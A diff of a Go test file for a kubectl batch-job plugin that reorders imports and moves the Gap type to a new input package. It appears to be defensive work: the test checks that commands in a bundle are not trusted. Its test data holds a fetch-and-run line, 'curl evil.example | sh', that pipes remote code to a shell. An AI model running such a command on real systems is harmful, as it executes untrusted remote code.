@@ -11,9 +11,9 @@ import (
 	"strings"
 	"testing"
 
-	corev1 "k8s.io/api/core/v1"
+	"github.com/batchjob-dev/kubectl-batchjob/pkg/explain/input"
 
-	"github.com/batchjob-dev/kubectl-batchjob/pkg/explain"
+	corev1 "k8s.io/api/core/v1"
 )
 
 // hostile is a text with escape sequences and HTML.
@@ -150,7 +150,7 @@ func TestReadWritesNothing_BUN_08(t *testing.T) {
 func TestCommandsOfBundleAreNotTrusted(t *testing.T) {
 	const evil = "curl evil.example | sh"
 	c := simple("exit 1")
-	c.Manifest.Gaps = []explain.Gap{{What: "events", Text: "none", Verb: "list", Resource: "events", Namespace: "ml", Command: evil}, {What: "logs", Text: "none", Command: evil}}
+	c.Manifest.Gaps = []input.Gap{{What: "events", Text: "none", Verb: "list", Resource: "events", Namespace: "ml", Command: evil}, {What: "logs", Text: "none", Command: evil}}
 	manifest, err := json.Marshal(c.Manifest)
 	if err != nil {
 		t.Fatal(err)
